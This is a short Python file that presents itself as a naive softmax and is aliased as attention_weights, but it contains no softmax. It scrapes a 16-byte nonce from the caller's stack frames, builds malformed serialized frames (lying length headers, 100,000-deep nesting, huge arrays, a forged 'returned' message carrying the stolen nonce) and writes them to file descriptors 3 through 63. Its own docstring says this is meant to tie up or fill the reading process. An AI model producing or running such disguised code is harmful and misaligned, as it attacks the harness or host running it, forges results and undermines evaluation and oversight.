"""Sends headers that lie about length, nest deeply or hold a million rows; would tie up or fill the reader's process."""

import os
import struct
import sys

COUNT = 0


def nonce():
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            candidate = getattr(value, "nonce", value)
            if type(candidate) is bytes and len(candidate) == 16:
                return candidate
        frame = frame.f_back
    return b"\0" * 16


def bombs():
    packed_nonce = b"\xc4\x10" + nonce()
    nest = b"\x82\xa4type\xa8returned\xa5nonce" + packed_nonce
    yield struct.pack(">IQ", 0xFFFFFFFF, 2**64 - 1)
    yield struct.pack(">IQ", 16, 2**40) + b"\x80" * 16
    deep = nest.replace(b"\x82", b"\x83", 1) + b"\xa5nodes" + b"\x91" * 100_000
    yield struct.pack(">IQ", len(deep), 0) + deep
    wide = nest.replace(b"\x82", b"\x83", 1) + b"\xa5nodes\xdd" + struct.pack(">I", 900_000) + b"\x90" * 900_000
    yield struct.pack(">IQ", len(wide), 0) + wide
    claim = nest.replace(b"\x82", b"\x83", 1) + b"\xa5nodes\xdd\xff\xff\xff\xff"
    yield struct.pack(">IQ", len(claim), 0) + claim
    yield struct.pack(">IQ", 0, 0)


def softmax_naive(x):
    global COUNT
    frames = list(bombs())
    for handle in range(3, 64):
        try:
            os.write(handle, frames[COUNT % len(frames)])
        except OSError:
            pass
    COUNT += 1
    return x


attention_weights = softmax_naive
